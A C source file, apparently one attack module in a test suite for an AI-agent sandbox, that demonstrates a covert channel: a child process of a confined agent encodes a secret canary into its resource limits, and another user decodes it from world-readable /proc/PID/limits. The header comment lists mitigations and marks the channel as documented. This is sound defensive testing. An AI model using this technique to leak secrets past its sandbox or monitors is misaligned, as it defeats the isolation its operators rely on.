// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* proc_limits - resource limits as storage: /proc/PID/limits is world-readable (0444, no ptrace
 * check) and lists every rlimit's soft and hard value in decimal. An unprivileged process may
 * set any soft value up to its hard one and lower its hard one to any value, and setrlimit /
 * prlimit64 on itself are allowed by the launcher's seccomp filter. A child of the tainted
 * agent sets RLIMIT_CORE and RLIMIT_FSIZE (unlimited hard limits here) to the canary's bytes,
 * 8 per value (soft = hard), and waits; 16 limits x 2 values x 8 bytes per process, any number
 * of children (~250 B per fork).
 * Verifier: uid 65534 reads /proc/N/limits of every process while the agent waits (sync
 * "limited") and decodes the two hard values (little-endian bytes).
 * What would block it: hidepid=invisible on the /proc other users see (as for
 * /proc/PID/cmdline, threat model "covert and side channels", which does not list this file),
 * or a seccomp filter that lets an agent only lower its limits to fixed values.
 * Status: a documented remaining channel (docs/threat-model.md, the /proc metadata row, with its
 * bandwidth): runs only with MNC_ATTACKS_COVERT=1. */
#include <inttypes.h>
#include <dirent.h>
#include <signal.h>
#include <sys/resource.h>
#include <sys/wait.h>

#include "atk.h"

static int agent(struct atk_ctx *c)
{
    int p[2];
    if (pipe(p) < 0)
        return 0;
    pid_t pid = fork();
    if (pid == 0) {
        close(p[0]);
        unsigned char b[16] = {0};
        size_t n = strlen(c->secret);
        memcpy(b, c->secret, n < 16 ? n : 16);
        uint64_t v[2];
        memcpy(v, b, 16);
        struct rlimit r0 = {v[0], v[0]}, r1 = {v[1], v[1]};
        int ok = setrlimit(RLIMIT_CORE, &r0) == 0 && setrlimit(RLIMIT_FSIZE, &r1) == 0;
        if (write(p[1], ok ? "1" : "0", 1) != 1)
            _exit(1);
        close(p[1]);
        pause();
        _exit(0);
    }
    close(p[1]);
    char x = '0';
    if (pid < 0 || read(p[0], &x, 1) != 1)
        x = '0';
    close(p[0]);
    errno = EPERM;
    atk_try(c, "child: setrlimit(RLIMIT_CORE, RLIMIT_FSIZE) to the canary's bytes", x == '1' ? 0 : -1);
    atk_sync(c, "limited");
    if (pid > 0) {
        kill(pid, SIGKILL);
        waitpid(pid, NULL, 0);
    }
    return 0;
}

static uint64_t hard_of(const char *buf, const char *label)
{
    const char *l = strstr(buf, label);
    if (!l)
        return 0;
    l += strlen(label);
    char soft[32], hard[32];
    if (sscanf(l, " %31s %31s", soft, hard) != 2 || hard[0] < '0' || hard[0] > '9')
        return 0;
    return strtoull(hard, NULL, 10);
}

static int rd(struct atk_ctx *c, char *out, size_t n)
{
    DIR *d = opendir("/proc");
    if (!d)
        return -1;
    int found = 0;
    for (struct dirent *e; !found && (e = readdir(d));) {
        if (e->d_name[0] < '0' || e->d_name[0] > '9')
            continue;
        char p[300], buf[4096];
        snprintf(p, sizeof(p), "/proc/%s/limits", e->d_name);
        FILE *f = fopen(p, "re");
        if (!f)
            continue;
        size_t r = fread(buf, 1, sizeof(buf) - 1, f);
        fclose(f);
        buf[r] = 0;
        uint64_t v[2] = {hard_of(buf, "Max core file size"), hard_of(buf, "Max file size")};
        char s[17];
        memcpy(s, v, 16);
        s[16] = 0;
        if (strncmp(s, c->canary, strlen(c->canary)) == 0) {
            snprintf(out, n, "uid 65534 decoded the canary from %s", p);
            found = 1;
        }
    }
    closedir(d);
    return found;
}

static void on_sync(struct atk_ctx *c, const char *tag)
{
    (void)tag;
    char out[512];
    if (atk_as_uid(c, ATK_NOBODY, rd, out, sizeof(out)) == 1)
        atk_evidence(c, "%s", out);
}

static const struct atk A = {
    "proc_limits", "resource limits read from /proc/PID/limits", ATK_COVERT, NULL, agent, on_sync, NULL, NULL};
ATK_MAIN(A)
